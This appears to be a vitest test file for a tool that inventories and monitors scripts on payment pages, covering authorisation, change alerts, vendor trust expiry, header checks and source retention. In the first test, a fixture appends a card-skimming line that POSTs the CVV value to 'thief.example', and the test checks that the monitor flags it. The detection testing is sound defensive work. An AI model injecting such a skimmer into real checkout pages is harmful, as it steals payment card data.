import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { TestHouse } from '#engines/testing/open-test-house.ts';
import type { Scope } from '#engines/verb.ts';
import type { ShopId } from '#kernel/ids.ts';
import { DAY } from '#kernel/time.ts';
import { goldenHost } from '../checks/payment/golden-payment.ts';
import { authoriseScripts, rejectScripts, tidySources, trustVendor, withdrawAuthorisation } from '../index.ts';
import { inspectTables } from '../store.ts';
import {
  APP,
  appKey,
  CHAT,
  CHAT_SOURCE,
  first,
  type InventoryStage,
  openInventoryHouse,
  openInventoryStage,
  pageOf,
} from './testing/open-inventory-stage.ts';
import { vendorOf } from './vendor-of.ts';

let house: TestHouse;
let stage: InventoryStage;
let scope: Scope;
let shop: ShopId;

beforeAll(async () => {
  house = await openInventoryHouse();
});
afterAll(() => house[Symbol.asyncDispose]());
beforeEach(async () => {
  stage = await openInventoryStage(house);
  ({ scope, shop } = stage);
});

describe('the inventory of a payment page', () => {
  it('follows a script from new to authorised, changed, gone, back, and rejected', async () => {
    expect(await stage.look(pageOf(first))).toEqual([]);
    const counts = await authoriseScripts(scope, {
      shop,
      items: [
        { kind: 'script', key: appKey, reason: 'our own checkout' },
        { kind: 'script', key: CHAT, reason: 'help while paying' },
        { kind: 'host', key: 'cdn.chat.example', reason: 'serves the chat' },
      ],
      owner: 'support',
    });
    expect(counts).toEqual({ scripts: 2, hosts: 1, headers: 0 });
    expect((await stage.look(pageOf(first))).map((line) => line.split(':')[0])).toEqual([
      ...['medium inline', 'low content-security-policy', 'low x-frame-options'],
    ]);
    await authoriseScripts(scope, { shop, reason: 'everything else' });
    expect(
      await stage.look(
        pageOf(
          { ...first, inline: 'var visit = 18;' },
          { headers: { 'content-security-policy': "script-src 'nonce-other'", 'x-frame-options': 'DENY' } },
        ),
      ),
    ).toEqual([]);
    const stolen = `${CHAT_SOURCE}fetch("https://thief.example/c",{method:"POST",body:cvv.value})`;
    expect(await stage.look(pageOf({ ...first, [CHAT]: stolen }))).toEqual([`medium ${CHAT}`]);
    expect((await stage.standings())[CHAT]).toBe('changed');
    expect(await stage.look(pageOf(first))).toEqual([]);
    expect(await stage.look(pageOf({ [APP]: 'app(1)', inline: 'var visit = 19;' }))).toEqual([`low gone ${CHAT}`]);
    expect((await stage.standings())[CHAT]).toBe('removed');
    expect(await stage.look(pageOf(first, { partial: 'it took too long' }))).toEqual([`low gone ${CHAT}`]);
    expect(await stage.look(pageOf(first))).toEqual([]);
    await rejectScripts(scope, { shop, items: [{ kind: 'script', key: CHAT }], reason: 'the contract has ended' });
    expect(await stage.look(pageOf(first))).toEqual([`high ${CHAT}`]);
    await withdrawAuthorisation(scope, { shop, items: [{ kind: 'script', key: CHAT }], reason: 'looked again' });
    expect(await stage.standings()).toMatchObject({ [CHAT]: 'returned', [appKey]: 'authorised' });
    const changes = (await stage.entries('inspect.inventory-changed')).flatMap(
      (entry) => (entry as { changes: { what: string; key: string; adds?: string[] }[] }).changes,
    );
    expect(changes.filter(({ key }) => key === CHAT).map(({ what }) => what)).toEqual(['changed', 'removed', 'returned']);
    expect(changes[0]?.adds).toEqual(['host:thief.example', 'does:fetch', 'does:typed', 'field:cvc']);
  });

  it('follows the releases of a bundle, and rings for none when its changes are trusted', async () => {
    await stage.look(pageOf({ [APP]: 'app(1)' }));
    await authoriseScripts(scope, { shop, reason: 'our own bundle' });
    const next = 'https://shop.example.com/js/app.77b1e0aa.js';
    expect(await stage.look(pageOf({ [next]: 'app(2);pay()' }))).toEqual([`low ${appKey}`]);
    await authoriseScripts(scope, { shop, items: [{ kind: 'script', key: appKey }], reason: 'our own bundle', trustChanges: true });
    expect(await stage.look(pageOf({ 'https://shop.example.com/js/app.90c2f1bb.js': 'app(3);pay();more()' }))).toEqual([]);
    expect((await stage.standings())[appKey]).toBe('trusted');
    const versions = await rowsOf();
    expect(versions.map(({ url }) => url.split('/').at(-1))).toEqual(['app.3f2a9c1d.js', 'app.77b1e0aa.js', 'app.90c2f1bb.js']);
    expect(new Set(versions.map(({ artifact }) => artifact)).size).toBe(3);
  });

  it('does not ring for values that are new at every visit, but for a host that is', async () => {
    const tag = (stamp: number, host: string) => `window.stamp=${stamp};send("https://${host}/t")`;
    await stage.look(pageOf({ [CHAT]: tag(1, 'cdn.chat.example') }));
    await authoriseScripts(scope, { shop, reason: 'measures' });
    expect(await stage.look(pageOf({ [CHAT]: tag(2, 'cdn.chat.example') }))).toEqual([]);
    const other = pageOf({ [CHAT]: tag(3, 'cdn.thief.example') });
    const sameShape = pageOf({ [CHAT]: tag(1, 'cdn.chat.example') }).scripts[0]?.shape ?? '';
    expect(await stage.look({ ...other, scripts: other.scripts.map((script) => ({ ...script, shape: sameShape })) })).toEqual([
      `medium ${CHAT}`,
    ]);
  });

  it('trusts a vendor with what it changes and adds, until a day', async () => {
    await stage.look(pageOf(first));
    await authoriseScripts(scope, { shop, reason: 'as it is' });
    await expect(trustVendor(scope, { shop, domain: 'shop.example.com', trusted: true, reason: 'ourselves' })).rejects.toMatchObject({
      code: 'INPUT_INVALID',
    });
    await trustVendor(scope, {
      shop,
      domain: 'cdn.chat.example',
      trusted: true,
      reason: 'their contract',
      until: new Date('2026-03-05T00:00:00Z'),
    });
    expect(vendorOf('https://d111.cloudfront.net/a.js')).toBe('d111.cloudfront.net');
    const more = { ...first, [CHAT]: 'changed()', 'https://api.chat.example/new.js': 'fresh()' };
    const hosts = [goldenHost('api.chat.example')];
    expect(await stage.look(pageOf(more, { hosts }))).toEqual([]);
    house.setNow(new Date('2026-03-06T00:00:00Z'));
    const open = await stage.look(pageOf(more, { hosts }));
    expect(open).toEqual(
      expect.arrayContaining(['low expired vendor chat.example', 'high api.chat.example', 'high https://api.chat.example/new.js']),
    );
  });

  it('asks again when an authorisation has ended, and tells of headers that went or changed', async () => {
    await stage.look(pageOf(first));
    await authoriseScripts(scope, { shop, reason: 'for the season', until: new Date('2026-03-04T00:00:00Z') });
    expect(await stage.look(pageOf(first))).toEqual([]);
    const headers = { 'x-frame-options': 'SAMEORIGIN', 'access-control-allow-origin': '*' };
    expect(await stage.look(pageOf(first, { headers }))).toEqual(
      expect.arrayContaining([
        'high content-security-policy',
        'medium x-frame-options',
        'medium access-control-allow-origin',
        `low expired script ${CHAT}`,
      ]),
    );
    expect((await stage.standings())[CHAT]).toBe('expired');
  });
});

describe('sources', () => {
  it('are kept once, packed, and go with the last version that names them', async () => {
    const { shop: twin } = await stage.newShop('https://twin.example.com');
    await stage.look(pageOf(first));
    await stage.look(pageOf({ [CHAT]: CHAT_SOURCE }), twin);
    const all = await rowsOf(null);
    expect(new Set(all.filter((row) => row.key === CHAT).map((row) => row.artifact)).size).toBe(1);
    const artifact = all.find((row) => row.key === CHAT)?.artifact ?? '';
    expect(
      Buffer.from(await house.artifacts.load(scope.org, artifact))
        .subarray(0, 2)
        .toString('hex'),
    ).toBe('1f8b');
    await stage.look(pageOf({ [APP]: 'app(1)' }));
    house.advance(401 * DAY);
    const machine = house.scope(scope.org);
    expect((await tidySources(machine, {})).artifacts).toHaveLength(1);
    expect(await rowsOf()).toHaveLength(1);
    await stage.look(pageOf({}), twin);
    house.advance(401 * DAY);
    expect((await tidySources(machine, {})).artifacts).toEqual([artifact]);
    await house.artifacts.remove(scope.org, artifact);
    await expect(house.artifacts.load(scope.org, artifact)).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await house.artifacts.remove(scope.org, artifact);
  });
});

async function rowsOf(of: ShopId | null = shop) {
  const rows = await house.state.inOrg(scope.org, (db) =>
    inspectTables(db).selectFrom('inspect_script_versions').selectAll().where('org_id', '=', scope.org).orderBy('first_seen').execute(),
  );
  return of === null ? rows : rows.filter((row) => row.shop_id === of);
}
